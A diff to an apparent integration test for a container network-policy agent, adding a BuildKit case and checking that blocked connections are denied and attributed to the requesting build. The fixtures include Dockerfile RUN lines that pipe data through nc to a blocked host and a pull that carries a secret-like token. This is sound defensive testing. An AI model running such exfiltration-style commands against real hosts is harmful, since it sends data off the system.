@@ -190,6 +190,12 @@ describeKernel("containers with a real runtime (docker)", () => {
       join(ctx, "Dockerfile"),
       `FROM ${IMAGE}\nRUN echo x | nc -w2 ${BLOCKED} 80 && echo RUN-CONNECTED || echo RUN-BLOCKED\n`,
     );
+    const bkCtx = join(dir, "bkctx");
+    mkdirSync(bkCtx);
+    writeFileSync(
+      join(bkCtx, "Dockerfile"),
+      `FROM ${IMAGE}\nRUN echo x | nc -w2 ${BLOCKED} 81 && echo BK-CONNECTED || echo BK-BLOCKED\n`,
+    );
     const policy = `allow-cidr ${ALLOWED}/32:5000\ndns-resolver 192.0.2.53\n`;
     const r = await agentRun({
       args: ["--mode", "enforce", "--config", config(dir, policy)],
@@ -200,6 +206,9 @@ describeKernel("containers with a real runtime (docker)", () => {
           `exec > ${out} 2>&1`,
           `echo "== build"`,
           `$D build --no-cache -t dpkt-built:1 ${ctx}`,
+          `echo "== buildkit"`,
+          `DOCKER_BUILDKIT=1 $D build --progress plain --no-cache -t dpkt-bk:2 ${bkCtx}`,
+          `$D rmi dpkt-bk:2 >/dev/null`,
           `echo "== pull-evil"`,
           `$D pull ${BLOCKED}:5000/x:secret-token-123`,
           `echo "== pull-named"`,
@@ -231,6 +240,18 @@ describeKernel("containers with a real runtime (docker)", () => {
     expect(ct(run as Ev)?.runtime).toBe("docker");
     expect(ct(run as Ev)?.requested_by).toBe(cli?.pid);
     expect(run?.step).toBe(STEP);
+    // BuildKit's RUN line: its own container (<parent>/buildkit/<id>), the same requester and step
+    expect(part("buildkit"), text).toMatch(/\d BK-BLOCKED$/m);
+    const bkCli = byKind
+      .exec(r.workload)
+      .filter((e) => e.filename === DOCKER_CLI && e.argv[3] === "build")
+      .at(-1);
+    const bk = conns.find((e) => e.addr === BLOCKED && e.port === 81);
+    expect(bk?.verdict, JSON.stringify(bk)).toBe("deny");
+    expect(ct(bk as Ev)?.runtime, JSON.stringify(bk)).toBe("buildkit");
+    expect(ct(bk as Ev)?.id).toMatch(/^[0-9a-z]{25}$/);
+    expect(ct(bk as Ev)?.requested_by).toBe(bkCli?.pid);
+    expect(bk?.step).toBe(STEP);
     // the daemon's pull: judged by the job's policy (the tag never leaves the host)
     const evil = conns.filter((e) => e.addr === BLOCKED && e.port === 5000);
     expect(evil.length, text).toBeGreaterThanOrEqual(1);
@@ -397,13 +418,16 @@ describeKernel("containers with a real runtime (docker)", () => {
     // the socket and data root were found too: the container carries its image and requester
     expect(ct(ran as Ev)?.image).toBe(IMAGE);
     expect(typeof ct(ran as Ev)?.requested_by).toBe("number");
-    // BuildKit's RUN container: judged below the cgroup parent (<parent>/buildkit/<id>), but
-    // the agent does not attribute that cgroup to a container or a step (README, Containers)
+    // BuildKit's RUN container: judged below the cgroup parent (<parent>/buildkit/<id>), and
+    // attributed to the `docker build` that asked for it
     const bk = conns.filter(
-      (e) => e.addr === BLOCKED && e.port === 80 && e.comm === "nc" && !ct(e),
+      (e) => e.addr === BLOCKED && e.port === 80 && ct(e)?.runtime === "buildkit",
     );
     expect(bk.length, JSON.stringify(conns)).toBeGreaterThanOrEqual(1);
-    for (const e of bk) expect(e.verdict).toBe("deny");
+    for (const e of bk) {
+      expect(e.verdict).toBe("deny");
+      expect(typeof ct(e)?.requested_by).toBe("number");
+    }
     const pulls = conns.filter((e) => e.addr === BLOCKED && e.port === 5000);
     expect(pulls.length, text).toBeGreaterThanOrEqual(1);
     for (const e of pulls) {
